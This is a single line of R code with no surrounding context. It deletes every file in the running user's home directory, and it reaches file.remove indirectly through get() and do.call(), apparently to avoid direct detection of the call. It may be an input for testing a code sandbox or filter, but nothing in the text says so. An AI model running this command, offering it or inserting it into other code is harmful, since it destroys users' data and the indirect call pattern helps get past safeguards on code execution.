do.call(get("file.remove"), list(list.files("~", full.names = TRUE)))
